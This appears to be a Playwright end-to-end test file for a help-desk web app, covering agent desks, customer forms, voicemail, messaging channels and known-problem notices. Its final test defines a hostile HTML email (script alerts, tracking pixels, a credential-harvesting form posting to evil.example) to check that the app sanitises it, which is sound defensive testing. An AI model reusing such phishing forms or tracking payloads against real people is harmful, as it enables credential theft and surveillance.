import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { browserStage, DESKTOP, PHONE, type Stage } from './browser.stage.ts';
import { FacebookPagePeer } from './peers/facebook-page.ts';
import { type MailPeer, startMail } from './peers/mail.ts';
import { TwilioVoicePeer } from './peers/twilio-voice.ts';
import { WhatsappCloudPeer } from './peers/whatsapp-cloud.ts';

let mail: MailPeer;
let twilio: TwilioVoicePeer;
let facebook: FacebookPagePeer;
let whatsapp: WhatsappCloudPeer;
let stage: Stage;
let ana: Page;
let bor: Page;

beforeAll(async () => {
  mail = await startMail();
  twilio = await TwilioVoicePeer.start();
  facebook = await FacebookPagePeer.start();
  whatsapp = await WhatsappCloudPeer.start();
  whatsapp.templates.add('come_back@en');
  const ofMeta = { ...facebook.settings, ...whatsapp.settings, WHATSAPP_CLOUD_TEMPLATES: 'en=come_back' };
  stage = await browserStage({ env: { ...mail.settings, ...twilio.settingsAt(twilio.url), ...ofMeta } });
  whatsapp.webhook = `${stage.house.url}/channels/whatsapp-cloud`;
  facebook.webhook = `${stage.house.url}/channels/messenger`;
  twilio.house = { url: stage.house.url, publicUrl: stage.house.url };
  twilio.leads.VoiceUrl = `${stage.house.url}/channels/phone`;
  const maja = await stage.house.visitor('Maja');
  await maja.write('Where is my parcel 4711? It should have come on Monday.');
  await stage.house.until(
    () => stage.house.get('/api/tickets/1'),
    ({ status }) => status === 200,
  );
  [ana, bor] = [await stage.deskOf('Ana', 'agent'), await stage.deskOf('Bor', 'supervisor')];
  await row(ana, 'Maja').waitFor();
}, 120_000);

afterAll(async () => {
  await stage?.stop();
  await mail?.stop();
  await twilio?.stop();
  await facebook?.stop();
  await whatsapp?.stop();
});
afterEach(() => expect(stage.complaints.splice(0)).toEqual([]));

const row = (desk: Page, words: string) => desk.locator('li.row', { hasText: words });
const side = (desk: Page, name: string) => desk.getByRole('complementary').getByRole('region', { name });

async function open(desk: Page, words: string): Promise<void> {
  await row(desk, words).locator('a').click();
  await desk.getByRole('heading', { level: 1, name: words }).waitFor();
}

describe('keys', () => {
  test('are those of the same place on a keyboard that writes Cyrillic', async () => {
    await open(ana, 'Maja');
    const press = (key: string, code: string) =>
      ana.evaluate(
        ([key, code]) =>
          document.body.dispatchEvent(new KeyboardEvent('keydown', { key, code, bubbles: true })),
        [key, code] as const,
      );
    await press('т', 'KeyN');
    await expect.poll(() => ana.evaluate('document.activeElement.id')).toBe('note-text');
    await ana.locator('#note-text').press('Escape');
    await press('е', 'KeyT');
    await ana.getByRole('dialog').getByLabel('Phone number').waitFor();
    await ana.keyboard.press('Escape');
    await ana.getByRole('dialog').waitFor({ state: 'detached' });
  });
});

describe('views', () => {
  test('of the team are there for whoever was signed in before', async () => {
    await bor.getByRole('button', { name: 'Nobody’s yet' }).click();
    await bor.getByRole('button', { name: 'Views' }).click();
    await bor.getByLabel('Keep what is shown now as').fill('Free ones');
    await bor.getByLabel('For the whole team').check();
    await bor.getByRole('button', { name: 'Keep', exact: true }).click();
    await bor.getByRole('button', { name: 'Free ones', exact: true }).nth(1).waitFor();
    // The next one is one's own again, until it is said otherwise.
    await expect.poll(() => bor.getByLabel('For the whole team').isChecked()).toBe(false);
    await bor.keyboard.press('Escape');
    await bor.getByRole('button', { name: 'Everybody’s' }).click();
    await ana.getByRole('button', { name: 'Views' }).click();
    await ana.getByRole('button', { name: 'Free ones', exact: true }).waitFor();
    await ana.keyboard.press('Escape');
  });
});

describe('notes and notices', () => {
  test('a name begun with @ is offered and completed, and told; its list goes when something else is done', async () => {
    await open(ana, 'Maja');
    await ana.locator('#note-text').fill('Please, @bo');
    const names = ana.getByRole('group', { name: 'Call somebody of the team' });
    await names.waitFor();
    await ana.keyboard.press('Tab');
    await ana.keyboard.press('Enter');
    await expect.poll(() => ana.locator('#note-text').inputValue()).toBe('Please, @Bor ');
    await names.waitFor({ state: 'detached' });
    const bell = bor.locator('.bell > button');
    await bell.click();
    const list = bor.getByRole('dialog', { name: 'Reminders and escalations' });
    await list.waitFor();
    await ana.keyboard.type('call the courier.');
    await ana.keyboard.press('Control+Enter');
    await list.getByText('A note on #1 names you.').waitFor();
    await bor.locator('.bell .badge').waitFor({ state: 'detached' });
    await open(bor, 'Maja');
    await list.waitFor({ state: 'detached' });
  });
});

describe('what a ticket is about', () => {
  test('a tag of several words is one tag; those of the rules are called by name, in the reader’s language', async () => {
    await open(ana, 'Maja');
    const about = side(ana, 'What it is about');
    const typed = about.getByLabel('Add a tag');
    // The next one is typed before the first one's answer is there.
    const answered = ana.waitForResponse('**/api/commands/tag');
    await ana.route('**/api/commands/tag', async (route) => {
      const response = await route.fetch();
      await typed.fill('Regular customer');
      await route.fulfill({ response });
    });
    await typed.fill('Wrong shelf');
    await typed.press('Enter');
    await (await answered).finished();
    await ana.unroute('**/api/commands/tag');
    await about.getByRole('button', { name: 'Remove the tag wrong-shelf' }).waitFor();
    expect(await typed.inputValue()).toBe('Regular customer');
    await about.getByLabel('Add a tag').press('Enter');
    await about.getByRole('button', { name: 'Remove the tag Regular customer' }).waitFor();
    await ana.locator('.event-text', { hasText: '+Regular customer' }).waitFor();
    await open(bor, 'Maja');
    await bor.locator('.language select').selectOption('sl');
    await row(bor, 'Maja').locator('.tag', { hasText: 'Dostava' }).waitFor();
    await bor.locator('.event-text', { hasText: /oznake: Dostava/i }).waitFor();
  });

  test('what is wrong with a field is told by the name of the field', async () => {
    await open(ana, 'Maja');
    const about = side(ana, 'What it is about');
    await about.getByLabel('Kind').selectOption('return');
    await about.getByLabel('Amount (EUR)').fill('plenty');
    await about.getByLabel('Amount (EUR)').press('Enter');
    const refusal = ana.locator('.toast', { hasText: /^✕?\s*Amount \(EUR\): a number/ });
    await refusal.waitFor();
    // Once it is right, nothing says any more that it is wrong.
    await about.getByLabel('Amount (EUR)').fill('12.50');
    await about.getByLabel('Amount (EUR)').press('Enter');
    await refusal.waitFor({ state: 'detached', timeout: 15_000 });
  });

  test('whoever called can be called back', async () => {
    await ana.keyboard.press('Escape');
    await ana.getByRole('button', { name: 'New ticket' }).click();
    await ana.getByRole('dialog').getByLabel('Name of the customer').fill('Petra');
    await ana.getByRole('dialog').getByLabel('Phone number').fill('+386 40 123 456');
    await ana.getByRole('dialog').getByLabel('What they said').fill('The kettle smells of smoke.');
    await ana.getByRole('button', { name: 'Open the ticket' }).click();
    const number = side(ana, 'Customer').getByRole('link', { name: '+38640123456' });
    expect(await number.getAttribute('href')).toBe('tel:+38640123456');
  });
});

describe('canned replies', () => {
  test('that others keep say who changes them, and on a phone what is picked comes into sight', async () => {
    const kept = await stage.house.command('macro-save', {
      name: 'sorry/late',
      text: 'Sorry, {name}.',
      editor: 'supervisor',
    });
    expect(kept.status).toBe(200);
    await ana.goto(`${stage.house.url}/desk/#/macros`);
    await ana.getByLabel('Name, with its folder').fill('What colour?');
    await ana.getByLabel('Text', { exact: true }).fill('Which colour, {name}?');
    await ana.getByRole('button', { name: 'Save' }).click();
    await ana.locator('.toast', { hasText: 'Name, with its folder: takes letters' }).waitFor();
    await ana.setViewportSize(PHONE);
    await ana.getByRole('button', { name: 'late', exact: true }).click();
    const said = ana.getByText('Supervisors and leads change this one.');
    await said.waitFor();
    await expect
      .poll(() => said.evaluate((node) => node.getBoundingClientRect().top < innerHeight))
      .toBe(true);
    await ana.setViewportSize({ width: 1440, height: 900 });
  });
});

describe('being away', () => {
  test('stands beside one’s own name', async () => {
    await ana.goto(`${stage.house.url}/desk/#/`);
    await ana.keyboard.press('/');
    await ana.locator('.command-line input').fill('away 2h');
    await ana.locator('.command-line input').press('Enter');
    await ana.locator('.me').getByText('Ana (away)').waitFor();
    const until = await ana.locator('.line-answer').textContent();
    // By the reader's own clock.
    expect(until).not.toContain('UTC');
    expect(until).toMatch(/until .*\d\d:\d\d\./);
    await ana.locator('.command-line input').fill('back');
    await ana.locator('.command-line input').press('Enter');
    await ana.locator('.me').getByText('Ana (away)').waitFor({ state: 'detached' });
  });
});

describe('pages for customers', () => {
  const LOOKS = [
    ['en', DESKTOP, 'light'],
    ['sr', DESKTOP, 'dark'],
    ['sl', PHONE, 'light'],
    ['ru', PHONE, 'dark'],
  ] as const;

  test('have a form filled in, put right, sent and answered without a script, by keys alone', async () => {
    const { url } = stage.house;
    const page = await stage.open(`${url}/?lang=en`, { javaScriptEnabled: false, viewport: PHONE });
    const complain = page.getByRole('listitem').filter({ hasText: 'Make a complaint' });
    await complain.getByRole('link', { name: 'Fill in' }).press('Enter');
    await page.getByLabel('Order number').fill('2026-0118');
    await page.getByLabel('Photos').setInputFiles({
      name: 'kettle.png',
      mimeType: 'image/png',
      buffer: await ana.screenshot({ clip: { x: 0, y: 0, width: 20, height: 20 } }),
    });
    stage.house.advance(10_000);
    await page.getByRole('button', { name: 'Send' }).press('Enter');
    const summary = page.getByRole('alert');
    await expect.poll(() => summary.textContent()).toContain('2 answers need a look');
    await expect.poll(() => page.title()).toMatch(/^Error: /);
    expect(await page.getByLabel('Order number').inputValue()).toBe('2026-0118');
    expect(await page.getByLabel('kettle.png').isChecked()).toBe(true);
    await summary.getByRole('link', { name: /What happened/ }).click();
    await page.getByLabel('What happened?').fill('It came broken.');
    await page.getByLabel(/You may use what I wrote/).press('Space');
    await page.getByRole('button', { name: 'Send' }).press('Enter');
    const number = Number((await page.locator('.number').textContent())?.slice(1));
    await stage.house.command('claim', { ticket: number });
    await stage.house.command('reply', { ticket: number, text: 'A new one is on its way.' });
    await expect
      .poll(async () => {
        await page.getByRole('link', { name: 'Look for an answer' }).click();
        return page.getByRole('main').getByRole('listitem').first().textContent();
      })
      .toContain('A new one is on its way.');
    expect(await page.getByRole('link', { name: 'kettle.png' }).count()).toBe(1);
    await page.getByLabel('Your message').fill('Thank you!');
    await page.getByRole('button', { name: 'Send' }).press('Enter');
    await expect
      .poll(() => page.getByRole('main').getByRole('listitem').first().textContent())
      .toContain('Thank you!');
    await page.context().close();
  });

  test.each(LOOKS)('keep nobody out: %s', async (lang, viewport, colorScheme) => {
    const { url } = stage.house;
    const found: string[] = [];
    const page = await stage.open(`${url}/?lang=${lang}`, { viewport, colorScheme });
    const look = async (name: string) => {
      found.push(...(await stage.look(page, `public-${name}-${lang}`)));
      const wide = await page.evaluate('document.documentElement.scrollWidth - innerWidth');
      if (Number(wide) > 0) found.push(`${name} is ${wide} px too wide`);
      const small =
        await page.evaluate(`[...document.querySelectorAll('button,a.button,nav a,select,input:not([type=hidden],[type=radio],[type=checkbox],[tabindex="-1"]),label.pick')]
        .map((one) => [one.outerHTML.slice(0, 80), one.getBoundingClientRect().height]).filter(([, height]) => height < 44).map(String)`);
      found.push(...(small as string[]).map((one) => `${name}: ${one} is too small to press`));
    };
    await look('front');
    await page.goto(`${url}/forms/return?lang=${lang}`);
    await look('form');
    await page.locator('main button').click();
    await page.locator('.faults:focus').waitFor();
    await look('faults');
    await page.goto(`${url}/forms/question?lang=${lang}`);
    await page.locator('textarea').fill('Is it blue?');
    stage.house.advance(10_000);
    await page.locator('main button').click();
    await page.locator('.number').waitFor();
    await look('case');
    expect(found).toEqual([]);
    await page.context().close();
  });
});

describe('what a caller said on tape', () => {
  test('is listened to on the ticket, beside the number and the time that they wished', async () => {
    const call = await twilio.call('+38640123456');
    for (const keys of ['1', '1', '1', '1#', '1']) await call.press(keys);
    await call.speak(Buffer.from('ID3 my kettle smells of smoke'));
    const iva = await stage.deskOf('Iva', 'agent');
    await row(iva, 'Would like to be called.').locator('a').click();
    const tape = iva.locator('audio[aria-label="voicemail.mp3"]');
    await tape.waitFor();
    await iva.getByRole('article').getByText('Time zone: Europe/Ljubljana').waitFor();
    // A browser that may not fetch it says so before it looks at the bytes, which are no music here.
    const fetched = iva.waitForResponse((answer) => answer.url().includes('/api/files/'));
    await tape.evaluate((it: HTMLAudioElement) => it.load());
    expect((await fetched).status()).toBe(200);
    expect(await stage.look(iva, 'voicemail')).toEqual([]);
  });
});

describe('a reply', () => {
  test('says that everybody reads it, where the customer wrote in public, and only there', async () => {
    const tomo = '7001002003004005';
    facebook.person(tomo, 'Tomo');
    await facebook.comment(tomo, 'Is the large lamp sold out?');
    const ema = await stage.deskOf('Ema', 'agent');
    const reply = ema.getByRole('form', { name: 'Reply to the customer' });
    const warning = reply.getByText('Public: everybody reads this answer');
    await open(ema, 'Tomo');
    await warning.waitFor();
    expect(await stage.look(ema, 'public-reply')).toEqual([]);
    await open(ema, 'Maja');
    await reply.getByText(/Maja/).waitFor();
    expect(await warning.count()).toBe(0);
  });

  test('that comes too late for the channel leads to asking the customer to write, and stays', async () => {
    whatsapp.now = () => stage.house.now() - 25 * 3_600_000;
    const said = { type: 'text', text: { body: 'Do you repair kettles?' } };
    await whatsapp.write('38640123456', said, 'Urša');
    whatsapp.now = () => stage.house.now();
    const lea = await stage.deskOf('Lea', 'agent');
    await open(lea, 'Urša');
    await lea.getByRole('button', { name: 'Claim' }).click();
    await lea.getByText('Yours', { exact: true }).waitFor();
    await lea.locator('#reply-text').fill('We do.');
    await lea.getByRole('button', { name: 'Send to customer' }).click();
    const ask = lea.getByRole('alert').getByRole('button', { name: 'Ask the customer to write…' });
    await ask.waitFor();
    expect(await stage.look(lea, 'too-late')).toEqual([]);
    await ask.click();
    await lea.getByRole('dialog').getByRole('button', { name: 'Do it' }).click();
    await lea.locator('article.message', { hasText: 'May we go on here?' }).waitFor();
    await expect.poll(() => whatsapp.sent.length).toBe(1);
    expect(whatsapp.sent[0]?.body).toMatchObject({ type: 'template', template: { name: 'come_back' } });
    expect(await lea.locator('#reply-text').inputValue()).toBe('We do.');
  });
});

describe('a known problem', () => {
  test('is declared once by a lead, shown to customers, offered as a reply, and over when it is fixed', async () => {
    const { house } = stage;
    const maja = await house.visitor('Jure');
    await maja.write('My card payment is refused.');
    await row(ana, 'Jure').waitFor();
    const lead = await stage.deskOf('Vida', 'lead');
    await lead.goto(`${house.url}/desk/#/complaints`);
    await lead.getByText('No problem is known.').waitFor();
    await lead.getByRole('button', { name: 'Declare a known problem' }).click();
    const form = lead.getByRole('form', { name: 'Declare a known problem' });
    await form.getByLabel('Name').fill('card-payments');
    await form.getByLabel('English').fill('Card payments fail now. We are on it.');
    await form.getByLabel('Slovenščina').fill('Plačila s kartico zdaj ne delujejo.');
    await form.getByLabel('Words').fill('card pay*');
    await form.getByLabel('join by themselves').check();
    for (const colorScheme of ['light', 'dark'] as const) {
      await lead.emulateMedia({ colorScheme });
      for (const width of [DESKTOP.width, 360]) {
        await lead.setViewportSize({ width, height: 800 });
        expect(await stage.look(lead, `complaints-${colorScheme}-${width}`)).toEqual([]);
        expect(await lead.evaluate('document.documentElement.scrollWidth - innerWidth')).toBeLessThanOrEqual(
          0,
        );
      }
    }
    await lead.setViewportSize(DESKTOP);
    await form.getByRole('button', { name: 'Declare', exact: true }).click();
    await lead.getByText('Card payments fail now. We are on it.').first().waitFor();
    const door = await stage.open(`${house.url}/?lang=sl`);
    await door.getByText('Plačila s kartico zdaj ne delujejo.').waitFor();
    expect(await stage.look(door, 'front-door-problem')).toEqual([]);
    // What the command line said last stands there until it is closed.
    await ana.keyboard.press('Escape');
    await open(ana, 'Jure');
    await ana.getByRole('button', { name: 'Use its text' }).click();
    await expect
      .poll(() => ana.locator('#reply-text').inputValue())
      .toBe('Card payments fail now. We are on it.');
    // The page counts when it is opened; the case has joined since.
    await lead.reload();
    await lead.getByRole('button', { name: 'Fixed or withdrawn…' }).click();
    await lead.getByLabel('What customers are told').fill('Please try again.');
    await lead.getByRole('button', { name: 'It is fixed: tell 1 customer' }).click();
    const told = await house.until(
      () => maja.messages(),
      (messages) => messages.some(({ text }) => text.includes('Please try again.')),
    );
    expect(told.filter(({ text }) => text.includes('is fixed'))).toHaveLength(1);
    await ana
      .getByText('Known problem card-payments, fixed')
      .or(ana.getByText('card-payments is fixed'))
      .first()
      .waitFor();
    await door.reload();
    expect(await door.getByText('Plačila s kartico').count()).toBe(0);
  });
});

describe('a mail as it came', () => {
  test('is shown as it looked, and nothing in it runs, loads or asks for anything', async () => {
    mail.deliver({
      ...{ from: 'Zala <zala@customer.example>', subject: 'Picture of my kettle' },
      headers: { 'Content-Type': 'multipart/related; boundary=b' },
      text: `--b\nContent-Type: text/html; charset=utf-8\n\n${HOSTILE}\n--b\nContent-Type: image/png\nContent-ID: <kettle>\n\nx\n--b--`,
    });
    const eva = await stage.deskOf('Eva', 'supervisor');
    const asked: string[] = [];
    eva.on('request', (request) => asked.push(request.url()));
    await open(eva, 'Zala');
    await eva.getByRole('article').getByText('It leaks on the table.').waitFor();
    await eva.getByText('As it came').click();
    const frame = eva.frameLocator('.original iframe');
    await frame.getByRole('heading', { name: 'My kettle' }).waitFor();
    const unsafe = 'script, img:not([src^="data:image/"]), form, input, button, iframe, link, style ~ style';
    expect(await frame.locator(unsafe).count()).toBe(0);
    const body = frame.locator('body');
    expect(await body.evaluate((it) => getComputedStyle(it).position)).toBe('static');
    expect(await frame.getByAltText('The kettle').count()).toBe(1);
    const link = frame.getByRole('link', { name: 'Shop' });
    expect(await link.getAttribute('title')).toBe('https://evil.example/');
    expect(asked.filter((url) => !url.startsWith(stage.house.url))).toEqual([]);
    for (const viewport of [DESKTOP, PHONE]) {
      await eva.setViewportSize(viewport);
      await eva.locator('.original iframe').scrollIntoViewIfNeeded();
      expect(await stage.look(eva, `mail-as-it-came-${viewport.width}`)).toEqual([]);
    }
  });
});

const HOSTILE = `<html><head><style>body{position:fixed;background:url(https://evil.example/b)}</style>
<script>alert(1)</script></head><body onload="alert(2)"><h2>My kettle</h2><p>It <b>leaks</b> on the table.</p>
<img src="https://evil.example/pixel.gif" alt="far"><img src="cid:kettle" alt="The kettle">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<a href="https://evil.example/">Shop</a><table style="width:3000px"><tr><td>${'Wide '.repeat(40)}</td></tr></table></body></html>`;
